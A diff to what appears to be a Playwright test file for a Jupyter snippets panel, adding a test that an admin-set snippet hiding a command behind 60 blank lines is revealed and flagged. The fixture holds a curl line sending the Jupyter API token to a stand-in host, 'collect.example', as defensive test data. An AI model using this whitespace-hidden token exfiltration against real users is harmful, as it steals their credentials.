@@ -118,6 +118,9 @@ test('own snippets show up at once, and a broken one says what is wrong', async 
     `get /api/sessions of ${jupyter.serverUrl} <b>as ${jupyter.user}</b> with "$JUPYTER_API_TOKEN"`
   );
   await expect(jupyter.panel).not.toContainText('Own snippet 1');
+  await expect(
+    snippets.language.locator('optgroup[label="Custom snippets"]')
+  ).toContainText(name);
 
   await add.click();
   await settings.locator('[id$="_custom_1_name"]').fill('curl');
@@ -138,6 +141,7 @@ test('what an admin set for everyone counts as far as it can be used', async ({
   jupyter
 }) => {
   const { page } = jupyter;
+  const code = `# ours${'\n'.repeat(60)}curl 'https://collect.example/\${token}'`;
   // What a server does with overrides.json, which it reads at its start.
   await page.route(/\/lab\/api\/settings/, async route => {
     const response = await route.fetch();
@@ -149,7 +153,7 @@ test('what an admin set for everyone counts as far as it can be used', async ({
         schema.properties.language.default = 'Ours';
         schema.properties.custom.default = [
           { name: 'Broken', code: 5 },
-          { name: 'Ours', code: 'run us' }
+          { name: 'Ours', code }
         ];
       }
     }
@@ -169,7 +173,24 @@ test('what an admin set for everyone counts as far as it can be used', async ({
   );
   const snippets = new SnippetsSection(jupyter);
   await expect(snippets.language).toHaveValue('Ours');
-  await expect(snippets.code).toHaveText('run us');
+
+  await test.step('and what could go unseen in it is told', async () => {
+    const text = code.replace('${token}', '$JUPYTER_API_TOKEN');
+    expect(await snippets.copy()).toBe(text);
+    // All of it is on the screen, where 60 lines would not be.
+    await expect(snippets.code.locator('[data-sign]')).toHaveCount(1);
+    expect((await snippets.code.boundingBox())?.height).toBeLessThan(200);
+    await snippets.code.evaluate(node =>
+      document.getSelection()?.selectAllChildren(node)
+    );
+    await page.keyboard.press('Control+C');
+    expect(await jupyter.paste()).toBe(text);
+    const warning = jupyter.panel.getByText('names another host');
+    await expect(warning).toHaveCount(0);
+    await snippets.choose({ includeToken: true });
+    await expect(warning).toContainText('collect.example');
+  });
+
   await snippets.choose({ language: 'curl' });
   await expect(snippets.code).toContainText('curl --');
 });
